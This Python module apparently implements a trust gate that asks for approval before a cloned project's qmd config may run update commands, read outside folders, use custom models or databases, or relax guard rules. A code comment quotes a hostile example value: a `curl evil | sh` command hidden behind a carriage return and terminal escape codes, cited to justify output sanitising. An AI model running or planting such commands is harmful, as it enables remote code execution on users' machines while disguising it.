"""The approval gate for a project-local config (`.qmd/index.yml`), as the original 2.8.3 has it.

A project-local config arrives with a `git clone` and is adopted by every qmd command run
inside the tree, so these of its fields are somebody else's choices until the user says
otherwise (the original's issues #886 and #889):

- `update:` — a shell command `qmd update` would run;
- a collection `path` resolving outside the project (the folder holding `.qmd/`): any
  folder the process can read;
- `models:` other than the built-in default URIs: any `hf:` repository, local file or
  `openai:` endpoint;
- `database:` (qmd's own field, not the original's): the PostgreSQL server the index, and
  with it every note and every query, would be written to. Untrusted, the index stays in
  the project's `.qmd/index.sqlite`;
- a `.qmd/index.sqlite` that leads outside the project (a link, a `.qmd` folder that is one,
  a hard link): untrusted, no command uses it (it could be the user's own index);
- `guard.allow` globs: searches of the project's notes the agent guard would let through.
  Even approved they apply inside the project only (qmd/index/folder_cache.py).

In-project paths and the built-in defaults need no approval: that is what a local config is
for. Configs in the config dir are never gated. Approvals are kept in
`<config dir>/trusted.json`, keyed by the config's absolute path, holding the digest of the
gated set (`{"<path>": {"hooks": "<sha256>", "trustedAt": "<ISO time>"}}`): the original's
file, keys and digest, so an approval given by either tool holds for both. Editing a
command, pointing a collection elsewhere or changing a custom model changes the digest and
asks again. `QMD_TRUST_LOCAL_CONFIG=1` or `QMD_TRUST_UPDATE_HOOKS=1` trusts every local
config for unattended runs.

Pure functions and the trust file only: whether to ask, and how, is the caller's (the CLI
asks on a terminal; the Store skips the gated fields of an untrusted config).
"""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

from qmd.core.errors import QmdError
from qmd.core.records import field, record
from qmd.core.paths import is_local_config, trust_file_path, within
from qmd.core.text import line_safe

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Mapping
    from typing import Any

OPT_IN_VARS = ("QMD_TRUST_LOCAL_CONFIG", "QMD_TRUST_UPDATE_HOOKS")
MODEL_SLOTS = ("embed", "rerank", "generate")


@record(frozen=True)
class Gated:
    """What of a local config needs approval: (collection, command), (collection, raw path),
    (slot, model URI)."""

    hooks: tuple[tuple[str, str], ...] = ()
    paths: tuple[tuple[str, str], ...] = ()
    models: tuple[tuple[str, str], ...] = ()
    database: str = ""  # a `database:` URL ("" when the config has none)
    index_file: str = ""  # where `.qmd/index.sqlite` really is, when that is not the project's own file
    guard_allow: tuple[str, ...] = ()  # `guard.allow` globs: searches the agent guard would let through in the project

    def __bool__(self) -> bool:
        return bool(self.hooks or self.paths or self.models or self.database or self.index_file or self.guard_allow)

    def lines(self) -> list[str]:
        """The items as the original lists them before asking."""
        out: list[str] = []
        for title, items in (
            ("This project's config defines update commands:", self.hooks),
            ("Collection paths outside this project:", self.paths),
            ("Custom models:", self.models),
            ("A database server for this index:", (("database", self.database),) if self.database else ()),
            ("An index file outside this project (.qmd/index.sqlite leads there):", (("index", self.index_file),) if self.index_file else ()),
            ("Searches the agent guard would let through inside this project (guard.allow):", tuple(("allow", g) for g in self.guard_allow)),
        ):
            if items:
                out.append(title)
                # inert on a terminal: a cloned config's `update: "curl evil | sh #\r\e[2K  n: git pull"` showed only the part after \r
                out += [f"  {line_safe(str(name))}: {line_safe(str(value))}" for name, value in items]
        return out


@record(frozen=True)
class Decision:
    """The gate for one config: `allowed` (use every field), else the gated fields are skipped."""

    config_path: Path
    local: bool
    gated: Gated = field(default_factory=Gated)
    digest: str = ""
    allowed: bool = True
    why: str = ""  # not-local | nothing-gated | opted-in | approved | untrusted

    @property
    def skipped(self) -> bool:
        return not self.allowed


def project_root(config_path: str | os.PathLike[str]) -> Path:
    """The folder holding the `.qmd/` of a local config."""
    return Path(os.path.abspath(config_path)).parent.parent


def collection_path(raw: str, config_path: str | os.PathLike[str]) -> Path:
    """A local config's collection `path`: `~` expanded, a relative path taken from the
    project root (not the working directory), an empty one the project root itself."""
    text = os.path.expanduser(str(raw or "").strip())
    if not text:
        return project_root(config_path)
    return Path(os.path.normpath(os.path.join(project_root(config_path), text)))


def inside_project(config_path: str | os.PathLike[str], raw: str) -> bool:
    """True when the collection path stays inside the project after `~`, relative
    resolution and symlinks (a link out of the project is outside)."""
    root = os.path.realpath(project_root(config_path))
    target = os.path.realpath(collection_path(raw, config_path))
    return within(target, root)


def builtin_models() -> dict[str, str]:
    from qmd.core.defaults import BUILTIN

    return {slot: BUILTIN[slot] for slot in MODEL_SLOTS}


def _model_uri(spec: object) -> str | None:
    if isinstance(spec, str):
        return spec or None
    if isinstance(spec, dict) and isinstance(spec.get("uri"), str):
        return str(spec["uri"])  # {uri: openai:…, options}: the endpoint is what reaches out
    return None


def gated_items(config_path: str | os.PathLike[str], raw: Mapping[str, Any]) -> Gated:
    """The fields of the config `raw` (read from `config_path`) that need approval."""
    collections = raw.get("collections")
    colls = collections if isinstance(collections, dict) else {}
    hooks, paths = [], []
    for name, body in colls.items():
        if not isinstance(body, dict):
            continue
        if isinstance(body.get("update"), str) and body["update"]:
            hooks.append((str(name), str(body["update"])))
        folder = body.get("path")
        if isinstance(folder, str) and not inside_project(config_path, folder):
            paths.append((str(name), folder))
    section = raw.get("models")
    defaults = builtin_models()
    models = []
    for slot in MODEL_SLOTS:
        uri = _model_uri(section.get(slot)) if isinstance(section, dict) else None
        if uri and uri != defaults[slot]:
            models.append((slot, uri))
    database = raw.get("database")
    guard = raw.get("guard")
    allow = guard.get("allow") if isinstance(guard, dict) else None
    globs = tuple(str(g) for g in allow if isinstance(g, str)) if isinstance(allow, list) else ()
    return Gated(tuple(hooks), tuple(paths), tuple(models), database if isinstance(database, str) else "", foreign_index_file(config_path), globs)


def foreign_index_file(config_path: str | os.PathLike[str]) -> str:
    """Where the project's `.qmd/index.sqlite` really is when it is not the project's own
    file at its own place: reached through a link (the file, or a `.qmd` folder that is one,
    even to somewhere inside the project: a home folder checked out as a project holds the
    user's own index), or a hard link (the same file has another name, maybe the user's
    own index). "" when it is the project's own, or absent with its folder where it belongs."""
    from qmd.core.paths import LOCAL_DIR, LOCAL_INDEX_FILE

    absolute = Path(os.path.abspath(config_path))
    path = absolute.parent / LOCAL_INDEX_FILE
    real = os.path.realpath(path)
    own = os.path.join(os.path.realpath(project_root(config_path)), LOCAL_DIR, LOCAL_INDEX_FILE)
    if real != own:
        return real
    try:
        st = os.stat(path)
    except OSError:
        return ""
    import stat

    if stat.S_ISREG(st.st_mode) and st.st_nlink > 1:
        return real + " (a hard link: the same file has another name)"
    return ""  # a folder in its place is no other index: opening it says what is wrong


def index_file_error(config_path: str | os.PathLike[str], where: str) -> QmdError:
    """The error for an untrusted project whose index file is not its own."""
    from qmd.core.paths import LOCAL_INDEX_FILE

    index = Path(os.path.abspath(config_path)).parent / LOCAL_INDEX_FILE
    return QmdError(
        f"{index} leads to {where}, not the project's own file: a cloned repository may not choose the file its index is written to",
        f"remove it (rm {index}) and run qmd update to build the project's own index, or approve it: qmd trust (inside the project)",
    )


def _by_first(pairs: list[list[str]]) -> list[list[str]]:
    return sorted(pairs, key=lambda pair: pair[0])  # stable, like the original's sort on the first item


def digest(config_path: str | os.PathLike[str], gated: Gated) -> str:
    """sha256 of the gated set, byte for byte the original's `sensitiveDigest`: order of the
    collections in the file does not matter; any change to a command, an outside path or a
    custom model does. Missing models and the built-in URIs count alike, so `qmd init`
    writing the defaults changes nothing."""
    canonical: dict[str, object] = {
        "hooks": _by_first([[name, command] for name, command in gated.hooks]),
        # what an outside path resolves to, not its spelling: a link retargeted later asks again
        "paths": _by_first([[name, os.path.realpath(collection_path(folder, config_path))] for name, folder in gated.paths]),
        "models": _by_first([[slot, uri] for slot, uri in gated.models]),
    }
    if gated.database:  # qmd's own field: a config without one keeps the original's digest
        canonical["database"] = gated.database
    if gated.index_file:
        canonical["index_file"] = gated.index_file
    if gated.guard_allow:
        canonical["guard_allow"] = sorted(gated.guard_allow)
    text = json.dumps(canonical, ensure_ascii=False, separators=(",", ":"))
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


def _key(config_path: str | os.PathLike[str]) -> str:
    return os.path.abspath(config_path)


def load_store() -> dict[str, Any]:
    """The trust file; missing, unreadable or malformed is "nothing trusted" (never "all")."""
    try:
        with open(trust_file_path(), encoding="utf-8") as fh:
            data = json.load(fh)
    except (OSError, ValueError):
        return {}
    return data if isinstance(data, dict) else {}


def _save_store(data: dict[str, Any]) -> None:
    from qmd.core.fileio import write_text

    write_text(trust_file_path(), json.dumps(data, indent=2, ensure_ascii=False) + "\n", mode=None if trust_file_path().exists() else 0o600)


def is_trusted(config_path: str | os.PathLike[str], approved: str) -> bool:
    entry = load_store().get(_key(config_path))
    return isinstance(entry, dict) and entry.get("hooks") == approved


def record_trust(config_path: str | os.PathLike[str], approved: str) -> None:
    """Approve the gated set whose digest is `approved` for the config at `config_path`."""
    from qmd.core.clock import now_iso

    data = load_store()
    data[_key(config_path)] = {"hooks": approved, "trustedAt": now_iso()}
    _save_store(data)


def revoke_trust(config_path: str | os.PathLike[str]) -> bool:
    """Drop the approval of a config; False when there was none."""
    data = load_store()
    if data.pop(_key(config_path), None) is None:
        return False
    _save_store(data)
    return True


def list_trusted() -> list[tuple[str, str]]:
    """(config path, when it was trusted) for every approval in the trust file."""
    return [(path, str(entry.get("trustedAt", ""))) for path, entry in load_store().items() if isinstance(entry, dict)]


def _truthy(value: str | None) -> bool:
    return bool(value) and str(value).strip().lower() not in ("0", "false", "off", "no", "none")


def opted_in(env: Mapping[str, str] | None = None) -> bool:
    """`QMD_TRUST_LOCAL_CONFIG` or `QMD_TRUST_UPDATE_HOOKS` set (not 0/false/off/no/none)."""
    env = os.environ if env is None else env
    return any(_truthy(env.get(var)) for var in OPT_IN_VARS)


def decide(config_path: str | os.PathLike[str], raw: Mapping[str, Any], env: Mapping[str, str] | None = None) -> Decision:
    """May the config `raw` at `config_path` use its gated fields unattended?"""
    path = Path(os.path.abspath(config_path))
    if not is_local_config(path):
        return Decision(path, False, why="not-local")
    gated = gated_items(path, raw)
    approved = digest(path, gated)
    if not gated:
        return Decision(path, True, gated, approved, True, "nothing-gated")
    if opted_in(env):
        return Decision(path, True, gated, approved, True, "opted-in")
    if is_trusted(path, approved):
        return Decision(path, True, gated, approved, True, "approved")
    return Decision(path, True, gated, approved, False, "untrusted")


def skip_notice(decision: Decision) -> str:
    """The one-line notice of what an untrusted config's run leaves out."""
    parts = []
    if decision.gated.hooks:
        parts.append(f"{len(decision.gated.hooks)} update command(s)")
    if decision.gated.paths:
        parts.append(f"{len(decision.gated.paths)} collection(s) outside the project")
    if decision.gated.models:
        parts.append("custom models (" + ", ".join(slot for slot, _ in decision.gated.models) + ": the built-in defaults are used)")
    if decision.gated.database:
        parts.append("database server (the index stays in .qmd/index.sqlite)")
    if decision.gated.index_file:
        parts.append(f"index file link ({decision.gated.index_file})")
    if decision.gated.guard_allow:
        parts.append("guard.allow exemptions (the agent guard protects the project's notes as usual)")
    return (
        f"{decision.config_path} came with the project and is not trusted: skipping its " + ", ".join(parts)
        + "; the project's own collections are indexed"
    )
